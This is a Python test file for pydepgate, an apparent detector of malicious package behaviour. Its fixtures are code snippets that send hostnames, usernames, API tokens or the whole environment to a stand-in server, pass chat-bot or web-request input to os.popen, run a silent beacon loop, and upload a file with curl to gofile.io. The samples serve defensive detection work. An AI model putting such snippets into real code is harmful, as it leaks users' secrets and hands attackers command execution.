"""What is sent where: facts about the machine, addresses, commands that use the network, remote control."""

from __future__ import annotations

import ast

import pytest

from pydepgate.detect import DETECTORS
from pydepgate.detect.base import View
from pydepgate.detect.destinations import classify, drop_in, parse
from pydepgate.detect.walk import walk
from pydepgate.source.interpreter import evaluate


def signals(source: str) -> set[str]:
    tree = ast.parse(source)
    view = View(tuple(source.split("\n")), evaluate(tree, source))
    return {sighting.name for sighting in walk(tree, view, DETECTORS)}


@pytest.mark.parametrize(
    ("fact", "expected"),
    [
        ("socket.gethostname()", "flow.host-to-network"),
        ("getpass.getuser()", "flow.host-to-network"),
        ("os.environ['USERNAME']", "flow.host-to-network"),
        ("os.environ.get('COMPUTERNAME', '')", "flow.host-to-network"),
        ("os.getenv('USER')", "flow.host-to-network"),
        ("socket.gethostbyname(socket.gethostname())", "flow.host-to-network"),
        ("requests.get('https://api.ipify.org').text", "flow.host-to-network"),
        ("subprocess.check_output(['whoami']).decode()", "flow.host-to-network"),
        ("hex(uuid.getnode())", "flow.host-to-network"),
        ("platform.platform()", "flow.platform-to-network"),
        ("os.listdir('/')", "flow.listing-to-network"),
        ("os.popen('make').read()", "flow.process-output-to-network"),
        ("open('notes.txt').read()", "flow.file-to-network"),
        ("os.environ['API_TOKEN']", "flow.secret-variable-to-network"),
        ("dict(os.environ)", "flow.environ-to-network"),
        ("{key: os.environ[key] for key in os.environ}", "flow.environ-to-network"),
        ("os.environ['GITHUB_SHA']", "flow.pipeline-to-network"),
    ],
)
def test_what_is_sent_has_a_name(fact: str, expected: str) -> None:
    imports = "import getpass, os, platform, requests, socket, subprocess, uuid\n"
    assert expected in signals(f"{imports}requests.post('https://server.invalid/', json={{'fact': {fact}}})")


@pytest.mark.parametrize(
    "sending",
    [
        "import requests\nrequests.get('https://server.invalid/?h=' + fact)",
        "import requests\nrequests.get('https://server.invalid/?h=%s' % fact)",
        "import requests\nrequests.get('https://server.invalid/?h={}'.format(fact))",
        "import requests\nwith requests.Session() as s:\n    s.post('https://server.invalid/', data=fact)",
        "import urllib.request as u\nr = u.Request('https://server.invalid/', data=fact.encode())\nu.urlopen(r)",
        "import http.client as h\nc = h.HTTPSConnection('server.invalid')\nc.request('POST', '/', fact)",
        "import socket as k\ns = k.socket()\ns.connect(('server.invalid', 80))\ns.sendall(fact.encode())",
        "import socket as k\nwith k.create_connection(('server.invalid', 80)) as s:\n    s.send(fact.encode())",
        "import smtplib\ns = smtplib.SMTP('server.invalid')\ns.sendmail('a@example.com', 'b@example.com', fact)",
        "import aiohttp\nasync def f(u):\n    async with aiohttp.ClientSession() as s:\n"
        "        await s.post(u, data=fact)",
        "def f(session):\n    session.post('https://server.invalid/', json={'h': fact})",
        "class C:\n    def __init__(self, s):\n        self.session = s\n    def f(self):\n"
        "        self.session.get('https://server.invalid/?' + fact)",
    ],
)
def test_every_way_of_sending_is_seen(sending: str) -> None:
    assert "flow.host-to-network" in signals(f"import socket\nfact = socket.gethostname()\n{sending}")


def test_facts_that_stay_here_are_not_sent() -> None:
    found = signals(
        "import platform, requests, socket\n"
        "NAME = socket.gethostbyname(socket.gethostname())\n"
        "requests.get('https://server.invalid/', headers={'User-Agent': platform.system()}, timeout=len(NAME))\n"
        "s = socket.socket()\n"
        "s.connect((socket.gethostname(), 80))\n"
    )
    assert "flow.host-to-network" not in found
    assert "flow.host-facts-many" not in found


def test_looking_up_the_own_name_asks_nobody() -> None:
    assert "network.request" not in signals("import socket\nsocket.gethostbyname(socket.gethostname())")


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://discord.com/api/webhooks/100000000000000001/aaaaaaaaaaaa", "network.webhook"),
        ("https://api.telegram.org/bot{}/sendMessage", "network.bot-api"),
        ("https://abc.example.oast.fun/", "network.out-of-band"),
        ("{}.oastify.com", "network.out-of-band"),
        ("https://somebody.ngrok-free.app/x", "network.out-of-band"),
        ("http://192.0.2.1:8000/", "network.raw-ip"),
        ("http://192.168.0.1/", "network.private-ip"),
        ("https://user:word@example.com:7777/", "network.odd-port"),
        ("https://pastebin.com/raw/abc", "network.paste"),
        ("https://example.vercel.app/", "network.free-hosting"),
        ("example.duckdns.org", "network.dynamic-dns"),
        ("http://example.onion/", "network.onion"),
        ("http://169.254.169.254/latest", "network.cloud-metadata"),
        ("http://q1w2e3r4t5y6u7i8o9p0a1s2.example.com", "network.random-host"),
    ],
)
def test_addresses_are_told_apart(address: str, expected: str) -> None:
    parsed = parse(address)
    assert parsed is not None
    assert expected in set(classify(parsed))


@pytest.mark.parametrize(
    "address",
    [
        "https://roast.fun/",
        "https://example.com/?u=webhook.site",
        "https://notngrok.iox/",
        "http://1.1.1.1/",
        "http://100.100.1.2/",
        "http://100.127.255.1/",
    ],
)
def test_lookalikes_are_nothing_special(address: str) -> None:
    parsed = parse(address)
    assert parsed is not None
    assert set(classify(parsed)) <= {"network.constant-host", "network.plain-http", "network.private-ip"}


def test_unknown_hosts_are_not_constant() -> None:
    parsed = parse("https://{host}/x")
    assert parsed is not None
    assert "network.constant-host" not in set(classify(parsed))


def test_message_of_a_bot_reaches_a_process() -> None:
    found = signals(
        "import os\nfrom discord.ext import commands\nbot = commands.Bot()\n"
        "@bot.command()\nasync def run(ctx, *, words):\n    os.popen(words)\n"
    )
    assert "flow.chat-to-process" in found


def test_decorator_does_not_call_what_it_wraps() -> None:
    source = (
        "import functools, requests\n"
        "def once(f):\n    @functools.wraps(f)\n    def inner():\n        return f()\n    return inner\n"
        "@once\ndef load():\n    return requests.get('https://server.invalid/')\n"
    )
    assert "network.on-load" not in signals(source)


def test_ping_and_hidden_errors() -> None:
    found = signals(
        "import requests, time\nwhile True:\n    try:\n        requests.get('https://server.invalid/')\n"
        "    except Exception:\n        pass\n    time.sleep(5)\n"
    )
    assert {"network.ping-only", "network.errors-hidden", "network.beacon-loop", "network.on-load"} <= found


def test_words_of_a_web_request_reach_a_shell() -> None:
    found = signals(
        "import os\nfrom flask import request\ndef page():\n    return os.popen(request.args.get('q')).read()\n"
    )
    assert "flow.listener-to-process" in found


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://discord.com/api/webhooks/0/x", "discord.com"),
        ("https://api.telegram.org/bot{token}/sendDocument", "api.telegram.org"),
        ("curl -F file=@x 'https://store1.gofile.io/uploadFile' -s", "store1.gofile.io"),
        ("? abc.oast.fun 443", "abc.oast.fun"),
        ("file.io", "file.io"),
        ("https://{requests.get().json()[data][server]}.gofile.io/uploadFile", "{}.gofile.io"),
        ("http://203.0.113.7:8080/up", "203.0.113.7"),
        ("https://somebody.ddns.net/", "somebody.ddns.net"),
        ("http://127.0.0.1:8000/", ""),
        ("1.2.3.4", ""),
        ("https://profile.io/", ""),
        ("https://api.server.invalid/file.io/x", ""),
        ("https://raw.githubusercontent.com/o/r/main/x", ""),
        ("", ""),
    ],
)
def test_where_anybody_can_have_things_sent_to(text: str, host: str) -> None:
    assert drop_in(text) == host
